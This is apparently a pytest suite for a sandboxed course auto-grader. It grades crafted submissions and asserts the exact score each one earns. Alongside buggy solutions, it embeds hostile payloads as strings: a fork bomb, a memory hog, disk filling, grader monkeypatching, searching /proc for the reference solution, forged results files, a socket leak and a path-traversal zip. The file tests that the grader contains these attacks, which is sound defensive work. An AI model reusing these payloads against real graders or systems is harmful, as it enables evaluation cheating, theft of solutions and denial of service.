"""The auto-grader against a corpus of crafted submissions, each with its exact score.

Every submission is built from the reference solution by text substitution
(or from the release's stubs). The corpus is graded once, two at a time,
with small time limits, on a fixed list of checks (the affine/relu layers,
the softmax loss and the TwoLayerNet loss, public and hidden: 18 points), so
new checks elsewhere do not move these numbers. A new row is a name, a
builder and its expected score. Attack rows must score exactly what their
honest parts earn and must not stop the grader.
"""

from __future__ import annotations

import json
import shutil
import socket
import zipfile
from pathlib import Path

import numpy as np
import pytest

from grading import grader, refs, release, sandbox

SOURCE = release.SOURCE_ROOT
Q = "two_layer_net"
CHECKS = [f"{Q}/{n}" for n in (
    "affine_forward", "affine_forward_random", "affine_backward", "relu_forward",
    "relu_backward", "softmax_loss", "softmax_loss_large_scores", "two_layer_net_loss",
    "hidden_affine_forward", "hidden_affine_backward", "hidden_relu_forward",
    "hidden_relu_backward")]
FULL = 18.0
STRONG = sandbox.isolation_mode() == "namespace"
AFFINE, ACT = "layers/affine.py", "layers/activations.py"
STUB_AF = 'raise NotImplementedError("affine_forward in cs231n/layers/affine.py: your code here")'
STUB_RF = ('raise NotImplementedError("relu_forward in cs231n/layers/activations.py: '
           'your code here")')


def copy_source(dest: Path) -> Path:
    shutil.copytree(SOURCE / "cs231n", dest / "cs231n",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    return dest / "cs231n"


def copy_stubs(dest: Path, stubs: Path) -> Path:
    shutil.copytree(stubs, dest / "cs231n")
    return dest / "cs231n"


def sub(pkg: Path, rel: str, old: str, new: str, count: int = 1) -> None:
    path = pkg / rel
    text = path.read_text()
    assert old in text, f"corpus pattern not found in {rel}: {old!r}"
    path.write_text(text.replace(old, new, count))


def prepend_body(pkg: Path, rel: str, signature_end: str, code: str) -> None:
    """Insert ``code`` (4-space indented lines) right after the line ``signature_end``."""
    sub(pkg, rel, signature_end, signature_end + "\n" + code.rstrip("\n"))


# ---------------------------------------------------------------- mutations
RELU_BWD_BODY = "    x = cache\n    dx = None"
AFF_BWD_BODY = "    x, w, b = cache\n    dx = dw = db = None"
RELU_FWD_BODY = "    out = None\n    # TODO: the rectified linear unit."

INFINITE_LOOP = """\
    import time
    while True:  # swallows the grader's alarm too
        try:
            time.sleep(0.05)
        except BaseException:
            pass
"""
MEMORY_HOG = """\
    hog = []
    while True:
        hog.append(bytearray(50 * 2**20))
"""
FORK_BOMB = """\
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
FLOOD = """\
    import builtins, os, sys
    builtins._floods = getattr(builtins, "_floods", 0) + 1
    if builtins._floods < 4:
        print("x" * (3 * 2**20))
        sys.stderr.write("y" * (2 * 2**20))
        try:
            os.write(1, b"z" * (4 * 2**20))
        except OSError:
            pass
"""
FILL_DISK = """\
    import builtins, os
    if not getattr(builtins, "_filled", False):
        builtins._filled = True
        for d in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")):
            for i in range(40):
                try:
                    with open(os.path.join(d, f"fill{i}"), "wb") as f:
                        f.write(b"\\0" * (8 * 2**20))
                except OSError:
                    break
"""
MONKEYPATCH = '''
import builtins, sys
import numpy
numpy.allclose = lambda *a, **k: True
numpy.max = lambda *a, **k: 0.0
builtins.print = lambda *a, **k: None
try:
    import grading.core as gc
    gc.judge = lambda *a, **k: ("passed", 0.0, 1.0, "")
    gc.rel_error = lambda *a, **k: 0.0
    gc.numeric_grad = lambda f, x, df=None, h=1e-5: numpy.zeros_like(x)
    gc.Close.__call__ = lambda self, out, ref: gc.Outcome(True, 0.0, 1.0, self.key)
    gc.run_check = lambda c, ref=None, seed=None: None
except Exception:
    pass
'''
READ_REFERENCE = '''
import os


def _find_reference():
    """Look everywhere for the reference solution and the grader's files."""
    roots = ["/work", "/root", "/home", "/autograder", "/srv", "/opt", "/tmp", "/var/tmp",
             os.getcwd(), os.path.expanduser("~"), "/proc/1/cwd", "/proc/1/root/work"]
    here = os.path.dirname(os.path.abspath(__file__))
    roots += [os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots.append(f"/proc/{pid}/cwd")
    for root in roots:
        try:
            for dirpath, dirnames, filenames in os.walk(root):
                if dirpath.count("/") > 8:
                    dirnames[:] = []
                if "affine.py" in filenames:
                    path = os.path.join(dirpath, "affine.py")
                    try:
                        text = open(path).read()
                    except OSError:
                        continue
                    if ("BEGIN" + " SOLUTION") in text and not os.path.samefile(path, __file__):
                        return text
        except OSError:
            continue
    return None


_TEXT = _find_reference()
if _TEXT is not None:
    _ns = {}
    exec(compile(_TEXT, "stolen", "exec"), _ns)
    affine_forward = _ns["affine_forward"]  # noqa: F811
    affine_backward = _ns["affine_backward"]  # noqa: F811
'''
FAKE_RESULTS = '''
import json, os
_fake = {"score": 1000, "tests": [{"name": "x", "score": 1000, "max_score": 1}]}
for _d in ["/autograder/results", os.getcwd(), os.path.expanduser("~"), "..", "../..",
           "../out", "../../out", "/tmp", "results", "/work/main"]:
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "results.json"), "w") as _f:
            json.dump(_fake, _f)
    except OSError:
        pass
for _d in ["../out", "out"]:  # forge the runner's outputs for every check
    for _i in range(40):
        try:
            import numpy as _np
            _np.savez(os.path.join(_d, f"{_i}.npz"), out=_np.ones(3), dx=_np.ones(3))
            with open(os.path.join(_d, f"{_i}.json"), "w") as _f:
                json.dump({"status": "ok", "message": "", "seconds": 0}, _f)
        except OSError:
            pass
'''
NETWORK = '''
import os, socket


def _phone_home():
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    port = int(open(os.path.join(here, "port.txt")).read())
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=1)
        s.sendall(b"leak")
        s.close()
        return True
    except OSError:
        return False
'''


def hardcoded(pkg: Path) -> None:
    """Stubs, with the public outputs of affine_forward and relu_forward typed in."""
    stored = refs.load(Q)
    af = stored["affine_forward"]["out"]
    rf = stored["relu_forward"]["out"]
    sub(pkg, AFFINE, STUB_AF,
        "if x.shape == (2, 4, 5, 6):\n"
        f"        return np.array({af.tolist()!r}), (x, w, b)\n    {STUB_AF}")
    sub(pkg, ACT, STUB_RF,
        f"if x.shape == (3, 4):\n        return np.array({rf.tolist()!r}), x\n    {STUB_RF}")


def build_corpus(root: Path, stubs: Path, port: int) -> dict[str, tuple[Path, float]]:
    rows: dict[str, tuple[Path, float]] = {}

    def folder(name: str, stub: bool = False) -> Path:
        d = root / name
        d.mkdir()
        return copy_stubs(d, stubs) if stub else copy_source(d)

    def add(name, expected, build, stub=False):
        pkg = folder(name, stub)
        build(pkg)
        rows[name] = (pkg.parent, expected)

    add("correct", FULL, lambda p: None)
    add("stubs", 0.0, lambda p: None, stub=True)
    add("affine_backward_wrong_sign", 14.0, lambda p: sub(
        p, AFFINE, "dx = (dout @ w.T).reshape(x.shape)", "dx = -(dout @ w.T).reshape(x.shape)"))
    add("affine_backward_db_wrong_axis", 14.0, lambda p: sub(
        p, AFFINE, "db = dout.sum(axis=0)", "db = dout.sum(axis=1)"))
    add("affine_forward_no_bias", 11.0, lambda p: sub(
        p, AFFINE, "-1) @ w + b  # (N, M)", "-1) @ w  # (N, M)"))
    add("relu_backward_wrong_sign", 16.0, lambda p: sub(
        p, ACT, "dx = dout * (x > 0)", "dx = dout * (x < 0)"))
    add("softmax_no_batch_mean", 13.0, lambda p: sub(
        p, "layers/losses.py", "loss = -log_probs[rows, y].sum() / N",
        "loss = -log_probs[rows, y].sum()"))
    add("two_layer_net_missing_reg", 16.0, lambda p: sub(
        p, "classifiers/fc_net.py",
        "loss = data_loss + 0.5 * self.reg * (np.sum(W1 * W1) + np.sum(W2 * W2))",
        "loss = data_loss"))
    add("syntax_error", 0.0, lambda p: sub(
        p, AFFINE, "def affine_backward(", "def affine_backward(("))
    add("crash_at_import", 16.0, lambda p: sub(
        p, "classifiers/fc_net.py", "\nimport numpy as np", "\nimport numpy as np\n"
        "raise RuntimeError('boom at import')"))
    add("infinite_loop", 14.0, lambda p: prepend_body(p, ACT, RELU_BWD_BODY, INFINITE_LOOP))
    add("memory_hog", 12.0, lambda p: prepend_body(p, AFFINE, AFF_BWD_BODY, MEMORY_HOG))
    if sandbox.isolation_mode() != "basic":  # a basic-mode runner has no process limit
        add("fork_bomb", 14.0, lambda p: prepend_body(p, ACT, RELU_BWD_BODY, FORK_BOMB))
    add("flood_output", FULL, lambda p: prepend_body(p, ACT, RELU_FWD_BODY, FLOOD))
    if STRONG:  # capped scratch space needs root (tmpfs mounts)
        add("fills_disk", FULL, lambda p: prepend_body(p, ACT, RELU_FWD_BODY, FILL_DISK))
    add("sys_exit", 12.0, lambda p: prepend_body(p, ACT, RELU_FWD_BODY,
                                                  "    import sys\n    sys.exit(0)\n"))
    add("os_exit", 12.0, lambda p: prepend_body(p, AFFINE, AFF_BWD_BODY,
                                                "    import os\n    os._exit(0)\n"))

    def monkeypatch(p):  # honest part: affine_forward only (5 points)
        correct = (SOURCE / "cs231n" / AFFINE).read_text()
        (p / AFFINE).write_text(correct.replace("def affine_backward(", "def _ab(", 1) +
                                "\n\ndef affine_backward(dout, cache):\n"
                                "    raise NotImplementedError('stub')\n")
        (p / "__init__.py").write_text((p / "__init__.py").read_text() + MONKEYPATCH)

    add("monkeypatch_grader", 5.0, monkeypatch, stub=True)

    def symlinked(p):
        (p / AFFINE).unlink()
        (p / AFFINE).symlink_to(SOURCE / "cs231n" / AFFINE)

    add("symlink_to_reference", 7.0, symlinked)
    add("hardcodes_public_refs", 0.0, hardcoded, stub=True)
    if not STRONG:  # without namespaces these attacks reach the source tree: not run here
        return finish(root, rows)
    add("reads_reference_files", 0.0, lambda p: (p / AFFINE).write_text(
        (p / AFFINE).read_text() + READ_REFERENCE), stub=True)

    def fake_results(p):  # honest part: affine_forward only
        (p / AFFINE).write_text((SOURCE / "cs231n" / AFFINE).read_text().replace(
            "    x, w, b = cache\n", "    raise NotImplementedError('stub')\n", 1))
        (p / "__init__.py").write_text((p / "__init__.py").read_text() + FAKE_RESULTS)

    add("writes_fake_results", 5.0, fake_results, stub=True)

    def network(p):
        (p / "port.txt").write_text(str(port))
        text = (p / AFFINE).read_text() + NETWORK
        (p / AFFINE).write_text(text.replace(
            f"    {STUB_AF}", "    if _phone_home():\n"
            "        return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)\n"
            f"    {STUB_AF}"))

    add("network_exfiltration", 0.0, network, stub=True)
    return finish(root, rows)


def finish(root: Path, rows: dict) -> dict:
    """Add the archive rows."""
    zroot = root / "zips"
    zroot.mkdir()
    good = zroot / "zipped_correct.zip"
    with zipfile.ZipFile(good, "w") as zf:
        for f in sorted((root / "correct" / "cs231n").rglob("*.py")):
            zf.write(f, f"a1/{f.relative_to(root / 'correct')}")
    rows["zipped_correct"] = (good, FULL)
    bad = zroot / "malformed.zip"
    bad.write_bytes(b"PK\x03\x04 this is not really a zip")
    rows["malformed"] = (bad, 0.0)
    evil = zroot / "path_traversal.zip"
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr("cs231n/__init__.py", "")
        zf.writestr("../../escaped.py", "print('escaped')")
    rows["path_traversal"] = (evil, 0.0)
    empty = root / "empty_folder"
    empty.mkdir()
    rows["empty_folder"] = (empty, 0.0)
    return rows


@pytest.fixture(scope="module")
def listener():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(16)
    s.settimeout(0.1)
    yield s
    s.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    root = tmp_path_factory.mktemp("corpus")
    rel = release.build(root / "release", only=["cs231n"])
    subs = root / "subs"
    subs.mkdir()
    rows = build_corpus(subs, rel.out / "cs231n", listener.getsockname()[1])
    out = root / "out"
    limits = sandbox.Limits(memory_mb=1024, slack=1.0, startup=15.0)
    grader.grade_all([p for p, _ in rows.values()], out, jobs=2, only=CHECKS, timeout=2.0,
                     limits=limits, log=lambda *a: None)
    return rows, out


ROWS = ["correct", "stubs", "affine_backward_wrong_sign", "affine_backward_db_wrong_axis",
        "affine_forward_no_bias", "relu_backward_wrong_sign", "softmax_no_batch_mean",
        "two_layer_net_missing_reg", "syntax_error", "crash_at_import", "infinite_loop",
        "memory_hog", "fork_bomb", "flood_output", "fills_disk", "sys_exit", "os_exit",
        "monkeypatch_grader", "reads_reference_files", "writes_fake_results",
        "hardcodes_public_refs", "network_exfiltration", "symlink_to_reference",
        "zipped_correct", "malformed", "path_traversal", "empty_folder"]


@pytest.mark.parametrize("name", ROWS)
def test_corpus_scores(graded, name):
    rows, out = graded
    if name not in rows:
        pytest.skip(f"{name} needs the namespace sandbox (root with unshare)")
    path, expected = rows[name]
    data = json.loads((out / grader.submission_name(path) / "results.json").read_text())
    failing = [t["number"] + ": " + t["output"] for t in data["tests"] if t["score"] == 0]
    assert data["score"] == expected, f"{name}: {data['score']} != {expected}\n" + "\n".join(
        failing)
    assert data["max_score"] == FULL


def test_every_submission_has_a_result_and_one_gradebook_row(graded):
    rows, out = graded
    lines = (out / "gradebook.csv").read_text().splitlines()
    assert len(lines) == len(rows) + 1
    names = sorted(line.split(",")[0] for line in lines[1:])
    assert names == sorted(grader.submission_name(p) for p, _ in rows.values())


def test_results_follow_gradescope_schema(graded):
    rows, out = graded
    for path, _ in rows.values():
        data = json.loads((out / grader.submission_name(path) / "results.json").read_text())
        assert isinstance(data["score"], float | int)
        assert {"tests", "output", "visibility"} <= set(data)
        for t in data["tests"]:
            assert {"name", "score", "max_score", "output", "visibility"} <= set(t)
            assert t["visibility"] in ("visible", "hidden", "after_due_date", "after_published")
            assert 0 <= t["score"] <= t["max_score"]
        assert (out / grader.submission_name(path) / "feedback.txt").exists()


def test_reasons_for_unreadable_submissions(graded):
    rows, out = graded
    for name, words in (("malformed", "zip"), ("path_traversal", "outside"),
                        ("empty_folder", "no cs231n")):
        data = json.loads((out / name / "results.json").read_text())
        assert words in data["extra_data"]["reason"], data["extra_data"]["reason"]


def test_no_fake_results_escaped_the_sandbox(graded):
    rows, out = graded
    if "writes_fake_results" not in rows:
        pytest.skip("needs the namespace sandbox")
    assert not (SOURCE / "results.json").exists()
    assert not (Path("/tmp") / "results.json").exists() or json.loads(
        (Path("/tmp") / "results.json").read_text()).get("score") != 1000


def test_hidden_checks_catch_hardcoded_values(graded):
    rows, out = graded
    data = json.loads((out / "hardcodes_public_refs" / "results.json").read_text())
    by = {t["number"]: t for t in data["tests"]}
    assert "withheld" in by[f"{Q}/affine_forward"]["output"]
    assert by[f"{Q}/hidden_affine_forward"]["score"] == 0


def test_network_listener_got_nothing(graded, listener):
    if sandbox.isolation_mode() != "namespace":
        pytest.skip("no network namespace on this machine")
    with pytest.raises(OSError):
        listener.accept()


def test_rerun_resumes_and_never_duplicates(graded):
    rows, out = graded
    before = (out / "correct" / "results.json").read_text()
    logs = []
    grader.grade_all([rows["correct"][0], rows["stubs"][0]], out, only=CHECKS, timeout=2.0,
                     log=logs.append)
    assert any("skipping 2" in line for line in logs)
    assert (out / "correct" / "results.json").read_text() == before
    assert len((out / "gradebook.csv").read_text().splitlines()) == len(rows) + 1


def test_same_submission_same_hidden_seeds(tmp_path):
    g = grader.Grader(only=CHECKS, secret=b"k", workdir=tmp_path)
    try:
        assert g.seeds("abc") == g.seeds("abc")
        assert g.seeds("abc") != g.seeds("abd")
        assert grader.Grader(only=CHECKS, secret=b"other", workdir=tmp_path).seeds("abc") != \
            g.seeds("abc")
    finally:
        g.close()


def test_judge_never_imports_submission_code(graded):
    import sys

    mods = [m for m, mod in sys.modules.items()
            if m.startswith("cs231n") and getattr(mod, "__file__", None)
            and not str(mod.__file__).startswith(str(SOURCE))]
    assert mods == []


def test_outputs_are_never_unpickled(tmp_path):
    out = tmp_path
    np.save(out / "x.npy", np.array([object()], dtype=object), allow_pickle=True)
    with zipfile.ZipFile(out / "0.npz", "w") as zf:
        zf.write(out / "x.npy", "out.npy")
    (out / "0.json").write_text(json.dumps({"status": "ok"}))
    o = sandbox.read_outcome(out, 0)
    assert o.status == "error" and not o.outputs


def test_tampering_is_flagged_and_honest_code_is_not(graded):
    rows, out = graded

    def extra(name):
        return json.loads((out / name / "results.json").read_text())["extra_data"]

    patched = extra("monkeypatch_grader")["tampering"]
    for name in ("grading.core.judge", "grading.core.numeric_grad", "numpy.max",
                 "builtins.print", "grading.core.Close.__call__"):
        assert name in patched, patched
    for name in ("correct", "flood_output", "fork_bomb", "affine_forward_no_bias"):
        if name in rows:
            assert extra(name)["tampering"] == [], name
    assert any("hidden" in f for f in extra("hardcodes_public_refs")["flags"])
    book = (out / "gradebook.csv").read_text()
    assert "grading.core.judge" in book


def test_hostile_output_files_are_errors_not_hangs(tmp_path):
    import io
    import os

    os.mkfifo(tmp_path / "0.npz")  # a FIFO would block a naive open()
    (tmp_path / "0.json").write_text(json.dumps({"status": "ok"}))
    assert sandbox.read_outcome(tmp_path, 0).status == "error"
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (10**12,)})
    with zipfile.ZipFile(tmp_path / "1.npz", "w") as zf:
        zf.writestr("out.npy", header.getvalue())
    (tmp_path / "1.json").write_text(json.dumps({"status": "ok"}))
    o = sandbox.read_outcome(tmp_path, 1)
    assert o.status == "error" and "header" in o.message
    (tmp_path / "2.json").symlink_to("/etc/passwd")
    assert sandbox.read_outcome(tmp_path, 2).status == "error"
